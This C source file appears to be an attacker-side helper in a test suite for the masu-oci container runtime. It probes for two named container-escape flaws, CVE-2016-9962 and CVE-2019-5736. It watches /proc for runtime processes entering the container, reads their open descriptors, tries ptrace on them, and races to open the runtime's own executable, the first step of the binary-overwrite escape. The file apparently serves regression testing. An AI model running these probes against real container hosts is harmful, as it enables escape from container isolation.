/* SPDX-License-Identifier: Apache-2.0 */

/*
 * CVE-2016-9962: a process of the container's that waits for masu-oci to come in, to take what it
 * has open or to trace it. Prints each success, and when it has seen the first one come.
 */

#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <time.h>
#include <unistd.h>

#include "attacker.h"

#define FDS_MAX 40

static int is_called(const char *pid, const char *name)
{
	char path[300], comm[32] = "";

	(void)snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, comm, sizeof(comm) - 1);
	if (fd >= 0)
		(void)close(fd);
	return n > 0 && strcmp(comm, name) == 0;
}

static int is_entering(const char *pid)
{
	return is_called(pid, "masu-oci\n");
}

/* Descriptors that were open after it executed the command belong to the container. */
static void told(const char *pid, const char *what, const char *target)
{
	if (is_entering(pid))
		(void)printf("OPEN: %s %s\n", what, target);
}

static void steal(const char *pid)
{
	char path[300], target[256];

	for (int i = 0; i < FDS_MAX; i++) {
		(void)snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, i);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		if (n > 0) {
			target[n] = 0;
			told(pid, path, target);
		}
	}
	(void)snprintf(path, sizeof(path), "/proc/%s/root/.", pid);
	if (access(path, F_OK) == 0)
		told(pid, path, "");
	if (ptrace(PTRACE_SEIZE, (pid_t)strtol(pid, NULL, 10), 0, 0) == 0)
		told(pid, "trace", "");
}

/* CVE-2019-5736: the program of a "script" that masu-oci itself interprets ("#!/proc/self/exe"). */
static int open_program(const char *pid)
{
	char path[300];

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return is_called(pid, "script\n") ? open(path, O_RDONLY | O_CLOEXEC) : -1;
}

int find_program(int seconds)
{
	time_t end = time(NULL) + seconds;
	int fd = -1;

	(void)printf("ready\n");
	(void)fflush(stdout);
	while (fd < 0 && time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (fd < 0 && proc && (entry = readdir(proc)))
			if (isdigit((unsigned char)*entry->d_name))
				fd = open_program(entry->d_name);
		if (proc)
			(void)closedir(proc);
	}
	return fd;
}

int thief(int seconds)
{
	time_t end = time(NULL) + seconds;
	int seen = 0;

	(void)printf("ready\n");
	(void)fflush(stdout);
	while (time(NULL) < end && access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc)))
			if (isdigit((unsigned char)*entry->d_name) && is_entering(entry->d_name)) {
				if (!seen)
					(void)printf("seen: some\n");
				(void)fflush(stdout);
				seen = 1;
				steal(entry->d_name);
			}
		if (proc)
			(void)closedir(proc);
	}
	return 0;
}
